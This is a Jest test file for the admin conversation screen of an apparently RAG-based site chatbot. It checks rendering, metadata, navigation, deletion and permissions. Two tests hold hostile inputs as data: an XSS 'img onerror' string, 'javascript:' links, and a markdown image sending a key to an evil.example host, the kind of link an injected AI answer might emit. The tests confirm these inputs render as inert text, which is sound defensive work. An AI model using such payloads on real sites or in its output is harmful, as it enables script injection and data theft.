/** @jest-environment jsdom */
import { beforeEach, expect, test } from '@jest/globals';
import { Chats } from '../../../admin/screens/chats.tsx';
import { collection, fakeServer, statusOf } from '../fake-server.ts';
import { button, click, get, show, text, wait } from '../page.tsx';
import { siteOf } from '../site.ts';
import { links } from '../../injection/wishes.ts';
import { answerOf, chatOf, questionOf } from './samples.ts';

const server = fakeServer();
const page = <Chats site={siteOf()} />;
const open = (session: string, more = '') =>
  window.history.replaceState(null, '', `?page=itih-rag-chat-chats&chat=${session}${more}`);
const hrefs = (selector: string) =>
  [...document.querySelectorAll<HTMLAnchorElement>(selector)].map((link) =>
    link.getAttribute('href'),
  );
const detail = (...turns: ReturnType<typeof questionOf>[]) =>
  server.on('GET /chats/one', { chat: chatOf({ up: 1 }), turns });

beforeEach(() => {
  open('one');
  server.on('GET /status', statusOf());
  server.on('GET /chats', collection([chatOf()], 1));
  server.on('GET /chats/facets', { pages: [], languages: [] });
  detail(questionOf({ gap: 9 }), answerOf());
});

test('shows the conversation as its visitor saw it, with what stood behind it', async () => {
  detail(
    questionOf(),
    answerOf({
      feedback: 'down',
      comment: 'Not on Mondays!',
      reasoning: 'I looked at the hours.',
      tools: [{ name: 'find_room', ok: false }],
      requestId: 'browser-7f3a0c52',
    }),
  );
  await show(page);
  const answer = get('.itih-markdown');
  expect(answer.querySelector('strong')?.textContent).toBe('ten');
  expect(answer.querySelector('sup a')?.getAttribute('href')).toBe('http://site.test/hours/');
  expect(answer.querySelector('[aria-describedby]')).toBeNull();
  expect(get('.itih-answer-facts').textContent).toContain('Answered');
  expect(get('.itih-answer-facts').textContent).toContain('93% sure');
  expect(get('.itih-answer-facts').textContent).toContain('gpt-5-mini');
  expect(get('.itih-answer-facts').textContent).toContain('1.2 sec');
  expect(get('.itih-answer-facts').textContent).toContain('1,200 tokens in, 34 out');
  expect(get('.itih-answer-facts').textContent).toContain('900 of them from the cache');
  expect(get('.itih-answer-facts').textContent).toContain('$0.00042');
  expect(get('.itih-request').textContent).toBe('Request browser-7f3a0c52');
  expect(text()).toContain('The visitor found this not helpful.');
  expect(text()).toContain('Not on Mondays!');
  const folded = [...document.querySelectorAll('.itih-folded')].map((part) => part.textContent);
  expect(folded[0]).toContain('Sources (1)');
  expect(folded[0]).toContain('The museum opens at ten.');
  expect(folded[1]).toContain('I looked at the hours.');
  expect(folded[2]).toContain('find_room failed');
});

test('what a visitor or a model wrote is never markup', async () => {
  const hostile = '<img src=x onerror="document.title=1"> [x](javascript:alert(1))';
  detail(
    questionOf({ content: hostile }),
    answerOf({ content: hostile, feedback: 'down', comment: hostile, citations: [] }),
  );
  await show(page);
  expect(document.querySelector('#itih-chat-turns img')).toBeNull();
  expect(hrefs('#itih-chat-turns a').filter((href) => href?.startsWith('javascript'))).toEqual([]);
  expect(text()).toContain('<img src=x');
});

test('what an attack wishes loads nothing, and is a link only where it is named as the page of the question', async () => {
  const hostile = links.join('\n\n');
  detail(
    questionOf({ content: hostile, pageUrl: 'javascript:alert(1)' }),
    answerOf({
      comment: hostile,
      feedback: 'down',
      reasoning: hostile,
      tools: [{ name: hostile, ok: true }],
    }),
  );
  await show(page);
  expect(document.querySelectorAll('#itih-chat-turns :is(img,script,iframe,style)')).toHaveLength(
    0,
  );
  const away = hrefs('#itih-chat-turns a').filter(
    (href) => !/^(\?|http:\/\/site\.test\/)/.test(href!),
  );
  expect(away).toEqual([]);
  expect(text()).toContain('![x](https://evil.example/p.png?d=KEY)');
});

test('leads to the gap, to the search and to writing an answer', async () => {
  await show(page);
  expect(hrefs('.itih-exchange > .itih-row-actions a')).toEqual([
    '?page=itih-rag-chat-gaps&gap=9',
    '?page=itih-rag-chat-search&q=When+does+the+museum+open%3F',
    '?page=itih-rag-chat-answers&question=When+does+the+museum+open%3F',
  ]);
});

test('who may only read is led to the gap alone, and cannot delete', async () => {
  await show(<Chats site={siteOf({ canManage: false })} />);
  expect(hrefs('.itih-exchange > .itih-row-actions a')).toEqual(['?page=itih-rag-chat-gaps&gap=9']);
  expect(document.querySelector('.is-destructive')).toBeNull();
});

test('shows the closest pages with the words of the question marked', async () => {
  const closest = [
    {
      title: 'Visit',
      section: '',
      url: 'http://site.test/visit/',
      kind: 'post' as const,
      passage: 'We open the doors at ten.',
      marks: [
        [3, 7],
        [21, 24],
      ] as [number, number][],
    },
  ];
  detail(questionOf(), answerOf({ outcome: 'closest', citations: [], closest }));
  await show(page);
  expect([...document.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual([
    'open',
    'ten',
  ]);
  expect(get('.itih-folded .itih-chunks__text').textContent).toBe('We open the doors at ten.');
  expect(get('.itih-folded summary').textContent).toBe('Closest pages (1)');
});

test('pages below an answer are further ones', async () => {
  const closest = [
    { ...{ title: 'Café', section: '', kind: 'post' as const }, url: '', passage: '', marks: [] },
  ];
  detail(questionOf(), answerOf({ content: '**Visit** says:\n\n> At **ten** [1].', closest }));
  await show(page);
  expect(get('.itih-markdown blockquote strong').textContent).toBe('ten');
  expect(
    [...document.querySelectorAll('.itih-folded summary')].map((node) => node.textContent),
  ).toEqual(['Sources (1)', 'More pages (1)']);
});

test('says why an answer has no text, and when there is none at all', async () => {
  detail(
    questionOf(),
    answerOf({ content: '', outcome: 'failed', citations: [] }),
    questionOf({ id: 3 }),
    answerOf({ id: 4, content: '', outcome: 'stopped', citations: [] }),
    questionOf({ id: 5, content: 'Hello?' }),
  );
  await show(page);
  const shown = [...document.querySelectorAll('.itih-exchange')].map((turn) => turn.textContent);
  expect(shown[0]).toContain('The answer failed before its first word.');
  expect(shown[1]).toContain('The visitor stopped the answer');
  expect(shown[2]).toContain('There is no answer yet.');
});

test('turns to the conversations before and after it, across pages of the list', async () => {
  open('two', '&paged=2&outcome=answered');
  const pages: Record<string, string[]> = { '1': ['zero', 'one'], '2': ['two'], '3': ['three'] };
  server.on('GET /chats', ({ query }) =>
    collection(
      pages[query['page'] ?? '']?.map((session) => chatOf({ session })),
      5,
      2,
    ),
  );
  server.on('GET /chats/two', { chat: chatOf({ session: 'two' }), turns: [] });
  server.on('GET /chats/three', { chat: chatOf({ session: 'three' }), turns: [] });
  await show(page);
  const { search } = new URL((button('Previous conversation') as HTMLAnchorElement).href);
  expect(new URLSearchParams(search).get('chat')).toBe('one');
  expect(new URLSearchParams(search).get('paged')).toBeNull();
  await click('Next conversation');
  await wait();
  expect(window.location.search).toContain('chat=three');
  expect(window.location.search).toContain('paged=3');
  expect(window.location.search).toContain('outcome=answered');
  expect(document.querySelector('[rel="next"]')).toBeNull();
});

test('one that is not in the list has no neighbours', async () => {
  server.on('GET /chats', collection([chatOf({ session: 'other' })], 1));
  await show(page);
  expect(document.querySelector('[rel="next"], [rel="prev"]')).toBeNull();
});

test('is deleted after a question, and the list is shown again', async () => {
  server.on('POST /chats/delete', () => {
    server.on('GET /chats', collection([], 0));
    return { deleted: 1 };
  });
  await show(page);
  await click('Delete', '#itih-chat');
  await click('Delete', '[role="dialog"]');
  expect(server.calls.find(({ path }) => path === '/chats/delete')?.body).toEqual({
    sessions: ['one'],
  });
  expect(window.location.search).toBe('?page=itih-rag-chat-chats');
  expect(text()).toContain('1 conversation was deleted.');
});

test('one that is gone is told, with the way back', async () => {
  server.fail('GET /chats/one', 'not_found');
  await show(page);
  expect(text()).toContain('This conversation is no longer there');
  await click('All conversations');
  expect(text()).toContain('When does the museum open?');
  expect(window.location.search).toBe('?page=itih-rag-chat-chats');
});

test('the focus goes to the conversation, and back to its row', async () => {
  open('');
  await show(page);
  await click('When does the museum open?');
  expect(document.activeElement?.id).toBe('itih-chat-title');
  await click('All conversations');
  expect(document.activeElement?.id).toBe('itih-chat-one');
});
